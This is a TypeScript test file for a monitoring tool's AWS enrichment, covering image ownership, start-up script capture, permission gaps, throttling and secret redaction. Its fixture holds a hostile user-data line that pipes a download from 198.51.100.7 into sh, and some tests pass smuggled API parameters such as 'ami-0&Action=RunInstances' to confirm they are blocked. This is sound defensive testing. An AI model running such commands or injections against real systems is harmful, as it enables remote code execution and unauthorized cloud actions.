import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fakeAwsCredentials, startFakeCloud, type FakeCloud } from '../../../test/fakes/cloud.ts';
import { fakeContext } from '../../../test/fakes/context.ts';
import type { Event, EventImage } from '../../core/event.ts';
import type { Gap } from '../../core/gap.ts';
import { isGap } from '../../core/sensor.ts';
import { openCloudHttp } from '../../io/cloud-answer.ts';
import { cloudFacts } from '../../watch/sensors/cloud-facts.ts';
import { openCloudAccesses } from './enrich-access.ts';
import { Enrichment } from './enrich.ts';

const account = '123456789012';
const ami = 'ami-0123456789abcdef0';
const machine: EventImage = { kind: 'machine', cloud: 'aws', written: ami };

const event = (id: string, more: Partial<Event> = {}): Event => ({
  id: `cloudtrail:${id}`,
  at: Date.parse('2026-03-01T10:00:00Z'),
  logsource: {},
  action: 'launch',
  actor: { name: 'ann' },
  place: { cloud: 'aws', account, region: 'eu-central-1', instance: 'i-0aaaaaaaaaaaaaaa1' },
  image: machine,
  fields: {},
  ...more,
});

interface Opened extends AsyncDisposable {
  readonly cloud: FakeCloud;
  readonly enrichment: Enrichment;
  /** Everything that comes of what was seen. */
  answers(): Promise<{ readonly events: readonly Event[]; readonly gaps: readonly Gap[] }>;
}

const open = async (
  configured = true,
  more: { readonly queue?: number; readonly againMs?: number } = {},
): Promise<Opened> => {
  const cloud = await startFakeCloud();
  cloud.images.set(ami, { id: ami, name: 'base', owner: '999999999999', created: '2026-02-28T10:00:00.000Z' });
  cloud.machines.set('i-0aaaaaaaaaaaaaaa1', {
    id: 'i-0aaaaaaaaaaaaaaa1',
    image: ami,
    userData: '#!/bin/sh\ncurl http://198.51.100.7/x | sh\n',
    tags: { stage: 'prod' },
  });
  const context = fakeContext({ environment: { ID: fakeAwsCredentials.id, SECRET: fakeAwsCredentials.secret } });
  const http = openCloudHttp(context, { retries: { attempts: 3, pauseMs: 1, longestPauseMs: 10 } });
  const aws = {
    account,
    regions: ['eu-central-1'],
    'access-key': { variable: 'ID' },
    'secret-key': { variable: 'SECRET' },
    endpoint: cloud.url,
    'per-second': 100,
  };
  const accesses = await openCloudAccesses(configured ? { aws: [aws] } : {}, http, context);
  const enrichment = new Enrichment({ accesses, context, ...more });
  return {
    cloud,
    enrichment,
    answers: async () => {
      enrichment.finish();
      const events: Event[] = [];
      const gaps: Gap[] = [];
      for await (const intake of enrichment.listener().intakes) {
        gaps.push(...intake.gaps);
        if (intake.bytes.length === 0) continue;
        const origin = { where: intake.where, receivedAt: 1, fingerprint: () => 'f' };
        const parsed = cloudFacts.parse(JSON.parse(Buffer.from(intake.bytes).toString()), origin);
        assert.ok(!isGap(parsed));
        events.push(...parsed);
      }
      return { events, gaps };
    },
    [Symbol.asyncDispose]: async () => {
      await http[Symbol.asyncDispose]();
      await cloud[Symbol.asyncDispose]();
    },
  };
};

const ownerOf = ({ image }: Event): string | undefined => (image?.kind === 'machine' ? image.owner : undefined);

test('a launch: owner and age of its image, and what it runs at its start', async () => {
  await using opened = await open();
  assert.equal(opened.enrichment.awaits(event('1')), true);
  opened.enrichment.see(event('1'));
  const { events, gaps } = await opened.answers();
  assert.deepEqual(gaps, []);
  assert.deepEqual(
    events.map((one) => [one.action, ownerOf(one)]),
    [
      ['learn', '999999999999'],
      ['learn', undefined],
    ],
  );
  assert.match(events[1]?.learnt?.story?.join() ?? '', /198\.51\.100\.7/);
  assert.deepEqual(opened.cloud.asked.toSorted(), [
    `DescribeImages ${ami}`,
    'DescribeInstanceAttribute i-0aaaaaaaaaaaaaaa1',
  ]);
});

test('an image is asked about once, the script of one request once, the same event once', async () => {
  await using opened = await open();
  for (const id of ['1', '1/1', '1/2', '2', '1']) opened.enrichment.see(event(id));
  const { events } = await opened.answers();
  assert.equal(events.filter(({ learnt }) => learnt?.script === undefined).length, 4);
  assert.equal(opened.cloud.asked.filter((one) => one.startsWith('DescribeImages')).length, 1);
  assert.equal(opened.cloud.asked.filter((one) => one.startsWith('DescribeInstanceAttribute')).length, 2);
});

test('a machine that starts again: its image is found by the machine', async () => {
  await using opened = await open();
  opened.enrichment.see(event('1', { action: 'start', image: { kind: 'unknown', reason: 'x' } }));
  const [first] = (await opened.answers()).events;
  assert.deepEqual(
    [first?.image?.kind, first && ownerOf(first), first?.learnt?.tags],
    ['machine', '999999999999', ['prod']],
  );
});

test('what was answered before a restart is not asked again', async () => {
  await using opened = await open();
  opened.enrichment.see({ ...event('x'), action: 'learn', learnt: { event: 'cloudtrail:1', about: 'launch' } });
  opened.enrichment.see(event('1'));
  assert.deepEqual((await opened.answers()).events, []);
});

test('without credentials nobody is asked: the incident has a gap each time, the flow one for the account', async () => {
  await using opened = await open(false);
  for (const id of ['1', '2', '3']) opened.enrichment.see(event(id));
  assert.equal(opened.enrichment.awaits(event('1')), false);
  const { events, gaps } = await opened.answers();
  assert.deepEqual([events, opened.cloud.asked], [[], []]);
  assert.deepEqual(
    gaps.map(({ code, where }) => [code, where]),
    [['CLOUD_NOT_ASKED', `AWS, account ${account}`]],
  );
  const [gap] = opened.enrichment.gapsOf(['cloudtrail:2']);
  assert.match(
    gap?.reason ?? '',
    /below watch\.enrichment\. Permissions: ec2:DescribeImages, ec2:DescribeInstanceAttribute$/,
  );
  assert.deepEqual(opened.enrichment.gapsOf(['cloudtrail:other']), []);
});

test('a region that is not configured is asked nobody', async () => {
  await using opened = await open();
  const { place } = event('1');
  opened.enrichment.see(event('1', { place: { ...place, region: 'us-east-1' } }));
  const [gap] = (await opened.answers()).gaps;
  assert.match(gap?.reason ?? '', /region us-east-1 is not among/);
  assert.deepEqual(opened.cloud.asked, []);
});

test('what is refused is a gap with the permission, once in the flow, and what is allowed is told all the same', async () => {
  await using opened = await open();
  opened.cloud.denied.add('DescribeInstanceAttribute');
  for (const id of ['1', '2']) opened.enrichment.see(event(id));
  const { events, gaps } = await opened.answers();
  assert.deepEqual(
    gaps.map(({ code }) => code),
    ['CLOUD_REFUSED'],
  );
  assert.match(gaps[0]?.reason ?? '', /ec2:DescribeInstanceAttribute is refused/);
  assert.deepEqual(events.map(ownerOf), ['999999999999', '999999999999']);
  for (const one of events) opened.enrichment.see(one);
  assert.equal(opened.enrichment.gapsOf(['cloudtrail:2'])[0]?.code, 'CLOUD_REFUSED');
});

test('what is refused is not asked again for each event', async () => {
  await using opened = await open();
  opened.cloud.denied.add('DescribeImages');
  for (const id of ['1', '2', '3']) opened.enrichment.see(event(id, { action: 'image-share' }));
  assert.equal((await opened.answers()).events.length, 3);
  // The first question of each of those that are asked at once.
  assert.ok(opened.cloud.refusals <= 1, `${opened.cloud.refusals} questions`);
});

test('a cloud that gives no answer for a while is asked again later, and the answer comes then', async () => {
  await using opened = await open(true, { againMs: 1 });
  opened.cloud.throttles = 7;
  opened.enrichment.see(event('1', { action: 'image-share' }));
  const intakes = opened.enrichment.listener().intakes[Symbol.asyncIterator]();
  const first: Gap[] = [];
  let told: Uint8Array | undefined;
  while (told === undefined) {
    const { value, done } = await intakes.next();
    assert.ok(done !== true);
    first.push(...value.gaps);
    if (value.bytes.length > 0) told = value.bytes;
  }
  assert.deepEqual(
    first.map(({ code }) => code),
    ['CLOUD_STALLED'],
  );
  assert.match(Buffer.from(told).toString(), /"owner":"999999999999"/);
  await intakes.return?.();
});

test('one answer does not hide that another one was refused', async () => {
  await using opened = await open();
  opened.cloud.denied.add('DescribeImages');
  opened.enrichment.see(event('1'));
  const { events } = await opened.answers();
  for (const one of events) opened.enrichment.see(one);
  assert.deepEqual([events.length, opened.enrichment.gapsOf(['cloudtrail:1'])[0]?.code], [2, 'CLOUD_REFUSED']);
});

test('a cloud that is busy is asked again; what lies or says nothing is a gap', async () => {
  await using opened = await open();
  opened.cloud.throttles = 1;
  opened.enrichment.see(event('1', { action: 'image-share' }));
  assert.deepEqual((await opened.answers()).events.map(ownerOf), ['999999999999']);
  await using lying = await open();
  lying.cloud.hostile = (response) => response.end('<!DOCTYPE x>');
  lying.enrichment.see(event('1', { action: 'image-share' }));
  const { events, gaps } = await lying.answers();
  assert.deepEqual([events[0]?.learnt?.refused?.code, gaps[0]?.code], ['XML_MALFORMED', 'XML_MALFORMED']);
});

test('a huge script is cut, and secrets in it are nowhere', async () => {
  await using opened = await open();
  const userData = `#!/bin/sh\nexport TOKEN_SECRET=abcdefghijkl123\n${'echo x\n'.repeat(100_000)}`;
  opened.cloud.machines.set('i-0aaaaaaaaaaaaaaa1', { id: 'i-0aaaaaaaaaaaaaaa1', image: ami, userData });
  opened.enrichment.see(event('1'));
  const { events } = await opened.answers();
  assert.ok((events[1]?.learnt?.script?.length ?? 0) <= 32 * 1024);
  assert.ok(!JSON.stringify(events).includes('abcdefghijkl123'));
  for (const one of events) opened.enrichment.see(one);
  assert.equal(opened.enrichment.gapsOf(['cloudtrail:1'])[0]?.code, 'START_UP_UNFOLLOWED');
});

test('more than may wait is told, and each event still has its answer', async () => {
  await using opened = await open(true, { queue: 1 });
  for (const id of ['1', '2', '3']) opened.enrichment.see(event(id));
  const { events, gaps } = await opened.answers();
  assert.deepEqual(
    gaps.map(({ code }) => code),
    ['CLOUD_QUESTIONS_TOO_MANY'],
  );
  assert.deepEqual(events.filter(({ learnt }) => learnt?.refused !== undefined).length, 2);
});

test('a role of another account than the one that it is for is misuse', async () => {
  const context = fakeContext({ environment: { ID: 'a', SECRET: 'b' } });
  const [key, secret] = [{ variable: 'ID' }, { variable: 'SECRET' }];
  const one = { account, regions: ['eu-central-1'], 'access-key': key, 'secret-key': secret };
  await using http = openCloudHttp(context);
  const role = 'arn:aws:iam::999999999999:role/x';
  await assert.rejects(
    openCloudAccesses({ aws: [{ ...one, role }] }, http, context),
    /none of the account 123456789012/,
  );
  await assert.rejects(openCloudAccesses({ aws: [one, one] }, http, context), /stands there twice/);
});

test('an id that is none of the cloud’s is sent to nobody, and that is a gap of the incident', async () => {
  await using opened = await open();
  opened.enrichment.see(event('1', { image: { kind: 'machine', cloud: 'aws', written: 'ami-0&Action=RunInstances' } }));
  const [gap] = opened.enrichment.gapsOf(['cloudtrail:1']);
  assert.deepEqual([gap?.code, gap?.where], ['CLOUD_NOT_ASKED', 'ami-0&Action=RunInstances']);
});

const unaskable: readonly (readonly [string, Partial<Event>])[] = [
  ['a launch that failed', { outcome: 'denied' }],
  ['an account that is none', { place: { cloud: 'aws', account: '1&2', region: 'eu-central-1' } }],
  [
    'an image that is none',
    {
      image: { kind: 'machine', cloud: 'aws', written: 'ami-0&Action=RunInstances' },
      place: { cloud: 'aws', account },
    },
  ],
  ['a container', { action: 'start', image: { kind: 'container', written: 'a:1' } }],
  ['somebody who read the script', { action: 'user-data', target: 'read userData' }],
  ['a search', { action: 'image-search' }],
];
for (const [what, more] of unaskable)
  test(`nothing is asked about ${what}`, async () => {
    await using opened = await open();
    opened.enrichment.see(event('1', more));
    assert.deepEqual([(await opened.answers()).events, opened.cloud.asked], [[], []]);
  });
